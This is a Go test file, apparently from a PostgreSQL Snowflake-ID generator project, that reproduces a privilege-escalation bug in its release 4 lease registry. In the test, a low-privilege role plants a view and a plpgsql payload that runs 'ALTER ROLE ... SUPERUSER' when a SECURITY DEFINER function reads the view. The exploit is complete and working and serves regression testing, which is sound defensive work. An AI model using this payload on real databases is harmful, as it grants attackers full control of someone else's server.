package attack

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/sfgen/sfgen/internal/pgident"
	"github.com/sfgen/sfgen/internal/snowflake"
	"github.com/sfgen/sfgen/internal/sqlgen"
)

// TestAttackRegistryRunsAPlantedLeaseTable: release 4's registry
// (registry.sql.tmpl, node_holders) reads the lease table of every schema
// that has a snowflake_layout() of the layout, by name, as whoever gives
// a node: snowflake_lease_take() and the other SECURITY DEFINER
// functions as their owner, snowflake_set_node() and a first install as
// the installing role, often a superuser. A role with a schema of its own
// (CREATE on the database, or any schema it may create in) plants there a
// snowflake_layout() returning the layout and a "snowflake_lease" that is
// a view calling its function: the registry locks and selects from it,
// and the function runs with the giver's rights. Release 3 read only other
// schemas' function text and never their relations. Here the planted
// function makes its owner a superuser when a lease client takes a lease:
// on release 4, not on release 3.
func TestAttackRegistryRunsAPlantedLeaseTable(t *testing.T) {
	t.Skip("release 4 SQL bug: node_holders reads <schema>.snowflake_lease of any schema with a snowflake_layout() of the layout, whoever owns it and whatever its relkind (a view, or a table with triggers), so another role's code runs as the giver of a node")
	forReleases34(t, func(t *testing.T, release int) {
		e := newEnv(t)
		e.script34(release, sqlgen.Options{Layout: snowflake.Twitter, Schema: "ids", Datacenter: 1, Machine: 1})
		mallory := e.role("mallory")
		e.exec("CREATE SCHEMA mal AUTHORIZATION " + pgident.Quote(mallory))
		e.exec("GRANT EXECUTE ON FUNCTION ids.snowflake_lease_take(text, bigint) TO " + pgident.Quote(mallory))
		e.exec("GRANT USAGE ON SCHEMA ids TO " + pgident.Quote(mallory))
		m := e.connect(mallory)
		m.exec(t, fmt.Sprintf(`CREATE FUNCTION mal.snowflake_layout() RETURNS text LANGUAGE sql AS $$SELECT %s::text$$`,
			pgident.QuoteLiteral(snowflake.Twitter.String())))
		m.exec(t, fmt.Sprintf(`CREATE FUNCTION mal.payload() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER ROLE %s SUPERUSER';
    RETURN false;
EXCEPTION WHEN OTHERS THEN
    RETURN false;
END
$$`, pgident.Quote(mallory)))
		m.exec(t, `CREATE VIEW mal.snowflake_lease AS
SELECT 0::integer AS datacenter_id, 0::integer AS machine_id, ''::text AS holder, 'infinity'::timestamptz AS expires_at
WHERE mal.payload()`)
		m.exec(t, "GRANT SELECT, UPDATE ON mal.snowflake_lease TO PUBLIC")
		if e.isSuperuser(mallory) {
			t.Fatal("mallory is a superuser before the attack")
		}
		var dc, mc int
		err := m.QueryRowContext(context.Background(), "SELECT datacenter_id, machine_id FROM ids.snowflake_lease_take($1::text, $2::bigint)",
			"mallory's service", time.Minute.Milliseconds()).Scan(&dc, &mc)
		t.Logf("mallory's take: node %d/%d, %v", dc, mc, err)
		if e.isSuperuser(mallory) {
			t.Errorf("release %d: a lease take ran mal.payload() as the owner of ids's lease functions, and %s is a superuser now", release, mallory)
		}
	})
}
